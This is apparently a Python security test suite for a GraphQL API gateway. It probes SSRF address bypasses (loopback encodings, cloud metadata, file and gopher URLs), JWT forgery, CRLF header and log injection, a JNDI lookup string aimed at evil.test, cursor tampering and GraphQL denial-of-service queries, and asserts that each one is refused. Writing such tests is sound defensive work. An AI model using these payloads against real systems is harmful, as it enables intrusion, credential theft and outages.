"""What a hostile customer tries who has read the source, through the front door."""

import asyncio
import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
import structlog

from gateway.config import Settings
from gateway.connectors.protocol import Access
from gateway.errors import InternalError
from gateway.models import Location, LocationKind, Page, PageRequest, Pointer, Record, RecordQuery
from gateway.models.queries import EVERYTHING
from gateway.runtime import Runtime, open_runtime
from gateway.storage.encryption import Cipher
from gateway.testing import FakeClock, ScriptedApp
from tests.guard.world import MALLORY, World, add_victim
from tests.support import runtime as given
from tests.support.gateway_client import GatewayUnderTest, serving
from tests.support.notes_connector import NotesConnector
from tests.support.runtime import stored

WHO = "{ viewer { isAdmin customer { externalId } } }"
CONNECT = """mutation($input: ConnectionCreateInput!) { connectionCreate(input: $input) {
    userErrors { code message field } connection { id state } } }"""
CHANGE = """mutation($input: ConnectionUpdateInput!) { connectionUpdate(input: $input) {
    userErrors { code message field } connection { id } } }"""


# Where requests go.


@pytest.fixture
async def inside() -> AsyncIterator[ScriptedApp]:
    """A server inside the network of the gateway, which nobody outside may reach through it."""
    async with ScriptedApp() as app:
        yield app


def _addresses_inside(port: int) -> list[str]:
    hosts = [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "0.0.0.0",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[fe80::1%25lo]",
        "localhost",
        "LOCALHOST.",
        "127。0。0。1",
        "①②⑦.0.0.1",
        "169.254.169.254",
        "user@127.0.0.1",
        "example.com@127.0.0.1",
        "127.0.0.1#.example.com",
        "127.0.0.1?.example.com",
        "127.0.0.1\\.example.com",
    ]
    ported = [f"http://{host}:{port}" for host in hosts]
    return [*ported, f"HTTP://127.0.0.1:{port}", f"http:\\\\127.0.0.1:{port}", f"http:127.0.0.1:{port}", f"//127.0.0.1:{port}",
            f"http://127.0.0.1:{port}/..;/", "file:///etc/passwd", "unix:///var/run/docker.sock", "gopher://127.0.0.1:6379/_INFO",
            f"http://127.0.0.1:{port}\r\nHost: example.com", f" http://127.0.0.1:{port}", f"http://127.0.0.1\t:{port}", "http://", "http://:80",
            f"http://127.0.0.1:{port + 65536}"]  # fmt: skip


async def test_no_address_of_a_connection_leads_inside(runtime: Runtime, gateway: GatewayUnderTest, inside: ScriptedApp):
    inside.answer(body=b'{"user": {"id": "x"}, "ok": true, "databases": []}')
    keys = {
        "demo": {"authMethod": "token", "credentials": {"token": "t"}},
        "kinto": {"authMethod": "bearer", "credentials": {"token": "t"}},
    }
    for key in (*keys, "datasette"):
        await given.integration(runtime, key, connector_key=key)
    mallory = gateway.customer(MALLORY)
    await mallory.execute(WHO)
    before = await stored(runtime)

    for key, proof in keys.items():
        for address in _addresses_inside(inside.port):
            input_ = {"integrationKey": key, "parameters": {"server": address}, **proof}
            answer = await mallory.ask(CONNECT, input=input_)
            assert InternalError.code not in answer.text, address
            payload = answer.data["connectionCreate"] or {"userErrors": []}
            codes = [error["code"] for error in [*payload["userErrors"], *(error["extensions"] for error in answer.errors)]]
            assert codes in (["INVALID"], ["UPSTREAM_REJECTED"], ["UPSTREAM_UNAVAILABLE"]), (address, answer.text)

    assert inside.requests == []
    assert await stored(runtime) == before


async def test_stored_credentials_are_never_sent_to_another_server(sqlite_url: str, clock: FakeClock):
    settings = Settings(
        database_url=sqlite_url, token_secret="t" * 32, encryption_keys=Cipher.generate_key_ring(), allowed_networks="127.0.0.0/8"
    )
    async with ScriptedApp() as honest, ScriptedApp() as evil, open_runtime(settings, clock=clock) as runtime, serving(runtime) as gateway:
        honest.answer(body=b"{}")
        evil.answer(body=b"{}")
        await given.integration(runtime, "demo", connector_key="demo")
        stolen = gateway.customer("acme")
        good = {
            "integrationKey": "demo",
            "parameters": {"server": honest.url},
            "authMethod": "token",
            "credentials": {"token": "the-token"},
        }
        made = await stolen.mutate(CONNECT, **good)
        by = {"id": made["connection"]["id"]}

        for change in (
            {"parameters": {"server": evil.url}},
            {"parameters": {"server": evil.url}, "authMethod": "token"},
            {"parameters": {"server": evil.url}, "authMethod": "api_key"},
            {"parameters": {"server": evil.url}, "credentials": None},
            {"parameters": {"server": evil.url}, "credentials": {}},
            {"parameters": {"server": honest.url + "@" + evil.url.removeprefix("http://")}},
            {"parameters": {"server": honest.url.replace("127.0.0.1", "localhost")}},
            {"parameters": None},
            {"parameters": {}},
        ):
            payload = (await stolen.execute(CHANGE, input={"by": by, **change}))["connectionUpdate"]
            assert [error["code"] for error in payload["userErrors"]] == ["INVALID"], change

        honest.answer(status=307, headers={"Location": evil.url + "/me"}, body=b"")
        await stolen.ask(
            'query($id: ID!) { node(id: $id) { ... on Connection { collection(key: "users") { records { nodes { id } } } } } }', **by
        )
        assert evil.requests == []
        assert all(request.headers["authorization"] == "Bearer the-token" for request in honest.requests)


async def test_credentials_make_no_headers(sqlite_url: str, clock: FakeClock):
    settings = Settings(
        database_url=sqlite_url, token_secret="t" * 32, encryption_keys=Cipher.generate_key_ring(), allowed_networks="127.0.0.0/8"
    )
    values = ("t\r\nX-Injected: yes", "t\nHost: evil.test", "t\x00", "t\x7f", "tü", "t\u2028x", " t", "t\t")
    async with ScriptedApp() as app, open_runtime(settings, clock=clock) as runtime, serving(runtime) as gateway:
        app.answer(body=b"{}")
        await given.integration(runtime, "demo", connector_key="demo")
        for (method, name), value in itertools.product((("token", "token"), ("api_key", "key")), values):
            connection = {"integrationKey": "demo", "parameters": {"server": app.url}, "authMethod": method, "credentials": {name: value}}
            answer = await gateway.customer("acme").ask(CONNECT, input=connection)
            (error,) = answer.data["connectionCreate"]["userErrors"]
            assert error["code"] in ("INVALID", "UPSTREAM_AUTH")
        assert app.requests == []


# Who asks.


def _forged(claims: dict[str, Any], header: dict[str, Any], *, secret: bytes = b"", digest: str = "sha256") -> str:
    head, body = (base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in (header, claims))
    signature = hmac.new(secret, f"{head}.{body}".encode(), getattr(hashlib, digest)).digest() if secret else b""
    return f"{head}.{body}.{base64.urlsafe_b64encode(signature).decode().rstrip('=')}"


async def test_no_forged_token_makes_an_admin(runtime: Runtime, gateway: GatewayUnderTest):
    claims = {"id": "victim-corp", "isAdmin": True}
    key = runtime.settings.token_secret.get_secret_value().encode()
    own = gateway.customer(MALLORY).token
    head, body, signature = own.split(".")
    raised = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
    jwk = {"kty": "oct", "k": base64.urlsafe_b64encode(b"mine" * 8).decode()}
    tokens = [
        _forged(claims, {"alg": "none"}),
        _forged(claims, {"alg": "None"}),
        _forged(claims, {"alg": "nOnE", "typ": "JWT"}, secret=key),
        _forged(claims, {"alg": ["HS256"]}, secret=key),
        _forged(claims, {"alg": "HS512"}, secret=key, digest="sha512"),
        _forged(claims, {"alg": "HS256"}, secret=b"mine" * 8),
        _forged(claims, {"alg": "HS256", "jwk": jwk}, secret=b"mine" * 8),
        _forged(claims, {"alg": "HS256", "kid": "../../../dev/null"}, secret=b"\x00"),
        _forged(claims, {"alg": "RS256"}, secret=key),
        _forged(claims, {"alg": "HS256", "b64": False, "crit": ["b64"]}, secret=key),
        f"{head}.{raised}.{signature}",
        f"{head}.{body}{raised}.{signature}",
        f"{head}.{body}.{signature}.{raised}.{signature}",
        f"{head}.{body}.",
        f"{own}\x00",
        own.replace(".", "．"),
    ]
    for token in tokens:
        response = await gateway.http.post("/graphql", json={"query": WHO}, headers={"authorization": f"Bearer {token}".encode()})
        assert response.status_code == 401, token
        assert [error["extensions"]["code"] for error in response.json()["errors"]] == ["NOT_AUTHENTICATED"]
    assert await stored(runtime) == {name: [] for name in await stored(runtime)}


async def test_a_signed_token_says_only_what_it_may(runtime: Runtime, gateway: GatewayUnderTest):
    # Products sign what their users typed: a claim of a wrong type must not become a right.
    key = runtime.settings.token_secret.get_secret_value().encode()
    for claims in (
        {"id": MALLORY, "isAdmin": "true"},
        {"id": MALLORY, "isAdmin": 1},
        {"id": MALLORY, "isAdmin": ["true"]},
        {"id": MALLORY, "is_admin": True, "admin": True, "exp": "never"},
        {"id": MALLORY, "exp": 1e400},
        {"id": MALLORY, "exp": 0},
        {"id": {"$ne": None}},
        {"id": [MALLORY]},
        {"id": ""},
        {"id": "m\x00"},
        {"id": "\ud800"},
        {"id": "m" * 256},
        {"isAdmin": False},
        {},
    ):
        token = _forged(claims, {"alg": "HS256"}, secret=key)
        response = await gateway.http.post("/graphql", json={"query": WHO}, headers={"authorization": f"Bearer {token}"})
        assert response.status_code == 401, claims
    for claims in ({"id": MALLORY, "is_admin": True}, {"id": MALLORY, "isadmin": True, "fields": {"isAdmin": True}}):
        token = _forged(claims, {"alg": "HS256"}, secret=key)
        response = await gateway.http.post("/graphql", json={"query": WHO}, headers={"authorization": f"Bearer {token}"})
        assert response.json()["data"] == {"viewer": {"isAdmin": False, "customer": {"externalId": MALLORY}}}


async def test_ids_that_look_alike_are_different_customers(world: World, gateway: GatewayUnderTest):
    victim = await add_victim(world)
    for alike in (
        "VICTIM-CORP",
        "victim-corp ",
        " victim-corp",
        "victim‐corp",
        "viсtim-corp",
        "victim-corp\u200b",
        "victim_corp",
        "victim%",
    ):
        found = await gateway.customer(alike).execute("{ connections(includeArchived: true) { totalCount } viewer { customer { id } } }")
        assert found["connections"]["totalCount"] == 0
        assert found["viewer"]["customer"]["id"] != victim.customer


# What many share.


@dataclass
class MirrorConnector(NotesConnector):
    """Shows each caller the credentials that it was asked with, after others had their turn."""

    async def location(self, access: Access, pointer: Pointer) -> Location | None:
        await asyncio.sleep(0.001)
        return Location(kind=LocationKind.DIRECTORY, pointer=pointer, name=f"seen by {access.credentials['token'][:12]}")

    async def records(self, access: Access, collection: Pointer, page: PageRequest, query: RecordQuery = EVERYTHING) -> Page[Record]:
        await asyncio.sleep(0.001)
        return Page(items=(Record(external_id=str(access.credentials["token"])[:12], fields={}),), next_token=None)


async def test_requests_of_many_customers_at_once_do_not_mix(sqlite_url: str, clock: FakeClock):
    settings = Settings(database_url=sqlite_url, token_secret="t" * 32, encryption_keys=Cipher.generate_key_ring())
    names = [f"customer-{number:03}" for number in range(12)]
    document = """{ viewer { customer { externalId connections { nodes { name location { name } } } } }
        connections { totalCount } dataSourceInstances { totalCount nodes { records { nodes { externalId } } connection { name } } } }"""
    async with open_runtime(settings, clock=clock, connectors=[MirrorConnector()]) as runtime, serving(runtime) as gateway:
        await given.integration(runtime)
        await given.definition(runtime)
        for name in names:
            principal = await given.customer(runtime, name)
            runtime.connectors["notes"].app.accepted_tokens.add(f"{name}-token")
            connected = await given.connection(runtime, principal, name=name, credentials={"token": f"{name}-token"})
            await given.instance(runtime, principal, connected)

        answers = await asyncio.gather(*(gateway.customer(name).execute(document) for name in names * 5))

    for name, answer in zip(names * 5, answers, strict=True):
        assert answer == {
            "viewer": {
                "customer": {"externalId": name, "connections": {"nodes": [{"name": name, "location": {"name": f"seen by {name}"}}]}}
            },
            "connections": {"totalCount": 1},
            "dataSourceInstances": {
                "totalCount": 1,
                "nodes": [{"records": {"nodes": [{"externalId": name}]}, "connection": {"name": name}}],
            },
        }


async def test_two_customers_of_one_socketful_of_requests_keep_their_own_loaders(world: World, gateway: GatewayUnderTest):
    victim = await add_victim(world)
    ask = "query($id: ID!) { node(id: $id) { id } }"
    own = gateway.customer(victim.external_id).execute(ask, id=victim.connection)
    other = gateway.customer(MALLORY).execute(ask, id=victim.connection)
    assert await asyncio.gather(own, other) == [{"node": {"id": victim.connection}}, {"node": None}]


async def test_a_forged_cursor_of_an_app_is_refused(world: World, gateway: GatewayUnderTest):
    document = """query($id: ID!, $after: String) { node(id: $id) { ... on Connection {
        collection(key: "notes") { records(first: 2, after: $after) { pageInfo { endCursor } } } } } }"""
    mallory = gateway.customer(MALLORY)
    good = await mallory.execute(document, id=world.own.connection)
    cursor = good["node"]["collection"]["records"]["pageInfo"]["endCursor"]
    raw = base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))
    payload = json.loads(raw[16:])
    changed = raw[:16] + json.dumps([payload[0], 10**9, *payload[2:]]).encode()
    bits = [bytes([*raw[:place], raw[place] ^ 1, *raw[place + 1 :]]) for place in range(len(raw))]
    for forged in (changed, raw[16:], raw + b" ", raw[:-1], b"\x00" * 16 + raw[16:], *bits):
        after = base64.urlsafe_b64encode(forged).decode().rstrip("=")
        answer = await mallory.ask(document, id=world.own.connection, after=after)
        assert [error["extensions"]["code"] for error in answer.errors] == ["INVALID"]


# What it costs.


DOCUMENTS = [
    "{ ...F0 } "
    + " ".join(f"fragment F{n} on Query {{ ...F{n + 1} ...F{n + 1} }}" for n in range(40))
    + " fragment F40 on Query { viewer { isAdmin } }",
    "{ ...F0 } "
    + " ".join(f"fragment F{n} on Query {{ ...F{n + 1} }}" for n in range(1_500))
    + " fragment F1500 on Query { viewer { isAdmin } }",
    "{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }",
    "{ viewer { " + "... { " * 120 + "isAdmin" + " }" * 120 + " } }",
    "{ viewer { customer " + "{ connections { nodes { customer " * 4_000 + "{ id }" + " } } }" * 4_000 + " } }",
    "{ connectors(search: " + "[" * 5_000 + "]" * 5_000 + ") { totalCount } }",
    "{ viewer { " + "isAdmin " * 3_000 + "} }",
    "{ " + " ".join(f"a{n}: viewer {{ isAdmin }}" for n in range(1_000)) + " }",
    "{ viewer " + "@skip(if: false) " * 1_000 + "{ isAdmin } }",
    "query(" + " ".join(f"$v{n}: Int" for n in range(2_000)) + ") { viewer { isAdmin } }",
    "{ __schema { types " + "{ fields { type " * 60 + "{ name }" + " } }" * 60 + " } }",
    '{ a(b: """' + '\\"""' * 20_000 + '""") }',
    "#" * 200_000,
    "{" * 20_000,
    "\ufeff" * 100,
]


async def test_a_document_that_costs_much_ends_in_an_answer(world: World, gateway: GatewayUnderTest, subtests: pytest.Subtests):
    mallory = gateway.customer(MALLORY)
    for document in DOCUMENTS:
        with subtests.test(document[:60]):
            answer = await mallory.ask(document)
            assert answer.status in (200, 400)
            assert InternalError.code not in answer.text
            assert len(answer.text) < 2_000_000
    assert (await mallory.execute(WHO))["viewer"]["isAdmin"] is False


async def test_lists_within_lists_end_when_they_hold_too_much(world: World, gateway: GatewayUnderTest):
    # Two connections, thirty levels: a billion rows.
    mallory = gateway.customer(MALLORY)
    rows = "{ viewer { customer " + "{ connections { nodes { customer " * 30 + "{ id }" + " } } }" * 30 + " } }"
    # Seven records, five levels.
    records = 'query($id: ID!) { node(id: $id) { ... on Connection { collection(key: "notes") '
    records += "{ records { nodes { collection " * 5 + "{ key }" + " } } }" * 5 + " } } }"
    costly = await mallory.ask(rows)
    assert {error["extensions"]["code"] for error in costly.errors} == {"COST_EXCEEDED"}
    assert costly.errors[0]["message"] == "The operation lists more than 10000 items. Ask for fewer, or nest fewer lists in lists."
    # Where each list is a request of its own, it is the app that is spared first.
    asking = await mallory.ask(records, id=world.own.connection)
    assert {error["extensions"]["code"] for error in asking.errors} == {"UPSTREAM_CALLS_EXCEEDED"}


# What is echoed.


HOSTS = ("evil.test", "evil.test:80", "[", "a b", "x" * 4_000)
PATHS = ("/", "/graphql", "/graphql/", "//evil.test/graphql", "/graphql/..;/", "/healthz", "/readyz", "/%0d%0aX-Injected:%20yes")


async def test_no_header_repeats_what_a_request_says_of_itself(gateway: GatewayUnderTest):
    for host, path in itertools.product(HOSTS, PATHS):
        headers = {"host": host, "x-forwarded-host": "evil.test", "x-forwarded-proto": "javascript", "origin": "http://evil.test"}
        response = await gateway.http.get(httpx.URL("http://gateway.test").copy_with(raw_path=path.encode()), headers=headers)
        assert response.status_code < 500
        assert not any("evil" in value or (len(host) > 1 and host in value) for value in response.headers.values()), (host, path)
        assert not {"x-injected", "access-control-allow-origin"} & set(response.headers)


async def test_nothing_but_a_name_of_an_operation_reaches_the_log(gateway: GatewayUnderTest):
    with structlog.testing.capture_logs() as log:
        for name in ("Good", "a\nlevel=error", "\x1b[2J", "", "${jndi:ldap://evil.test}"):
            body = {"query": "query Good { viewer { isAdmin } }", "operationName": name}
            await gateway.http.post("/graphql", json=body, headers={"user-agent": "evil\nagent", "x-request-id": "evil"})
    assert [entry["operation"] for entry in log if entry["event"] == "operation"] == ["Good"] * 5
    assert "evil" not in str(log)
